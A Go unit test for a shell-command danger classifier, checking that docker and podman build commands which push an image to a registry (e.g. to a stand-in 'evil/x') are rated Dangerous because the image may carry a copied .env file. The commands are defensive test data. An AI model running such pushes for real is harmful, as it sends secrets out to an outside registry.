package classify

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestAttackS29ReviewImagePushedByTheBuild: docker push is Dangerous
// since 716d068 (an image holds what its build copied, .env with COPY .
// ., and is published to the registry its name gives). The build can
// push it itself: docker build --push, docker buildx build --push (or
// --output type=registry, type=image,push=true), docker buildx bake
// --push, docker compose build --push, and docker manifest push and
// docker buildx imagetools create publish to a registry too. They were
// Warning. A build that keeps the image here stays Warning.
func TestAttackS29ReviewImagePushedByTheBuild(t *testing.T) {
	attackAtLeast(t, Dangerous, []string{
		`docker build --push -t evil/x .`,
		`docker build -t evil/x --push .`,
		`docker buildx build --push -t evil/x .`,
		`docker buildx build -t evil/x --output type=registry .`,
		`docker buildx build -t evil/x -o type=registry .`,
		`docker buildx build -t evil/x --output=type=image,push=true .`,
		`docker buildx build -t evil/x --push=true .`,
		`docker buildx bake --push`,
		`docker compose build --push`,
		`docker manifest push evil/x`,
		`docker buildx imagetools create -t evil/x x`,
		`podman build --push -t evil/x .`,
		`docker --log-level debug build --push -t evil/x .`,
		// For comparison, Dangerous since 716d068.
		`docker push evil/x`,
	})
	for _, l := range []string{
		`docker build -t x .`,
		`docker buildx build -t x --load .`,
		`docker buildx build -t x -o type=docker .`,
		`docker buildx bake`,
		`docker compose build`,
		`docker manifest inspect x`,
	} {
		v := Classify(l)
		assert.Less(t, v.Level, Dangerous, "%q: %v", l, v.Reasons)
	}
}
